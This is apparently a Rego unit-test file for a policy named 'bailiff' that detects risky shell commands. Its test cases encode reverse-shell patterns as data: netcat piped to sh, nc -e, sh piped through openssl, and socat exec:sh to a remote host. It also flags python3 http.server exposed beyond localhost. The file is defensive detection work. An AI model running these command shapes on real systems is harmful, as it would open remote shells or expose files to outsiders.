package bailiff_test

test_shells_are_not_joined_to_the_network if {
	"command.opens_reverse_shell" in _found([object.union(call("nc", [], ["x.test", "1"]), {"pipes_to": "sh"})])
	"command.opens_reverse_shell" in _found([object.union(call("sh", [], []), {"pipes_to": "openssl"}), call("openssl", [], [])])
	"command.opens_reverse_shell" in _found([call("nc", ["-e"], ["x.test", "1"])])
	_found([call("nc", ["-z"], ["localhost", "1"])]) == set()
}

test_servers_and_shells_are_found if {
	_told([call("python3", ["-m"], ["http.server"])]) == {"command.sends_files: python3 -m http.server"}
	_told([call("python3", ["-m"], ["http.server", "--bind", "127.0.0.1"])]) == set()
	_told([call("python3", ["-m"], ["pytest"])]) == set()
	_told([object.union(call("nc", [], ["h", "1"]), {"pipes_to": "sh"})]) == {"command.opens_reverse_shell: "}
	_told([object.union(call("sh", [], []), {"pipes_to": "openssl"}), call("openssl", [], [])]) == {
		"command.opens_reverse_shell: ",
	}
	_told([call("socat", [], ["exec:sh", "tcp:h:1"])]) == {"command.opens_reverse_shell: socat exec:sh tcp:h:1"}
	_told([call("socat", [], ["tcp-listen:80", "tcp:h:80"])]) == set()
	[options |
		some options in [["--bind", "localhost"], ["-b", "0.0.0.0"], ["--bind=::1"], []]
		data.bailiff._local_only(call("python3", options, []))
	] == [
		["--bind", "localhost"],
		["--bind=::1"],
	]
}
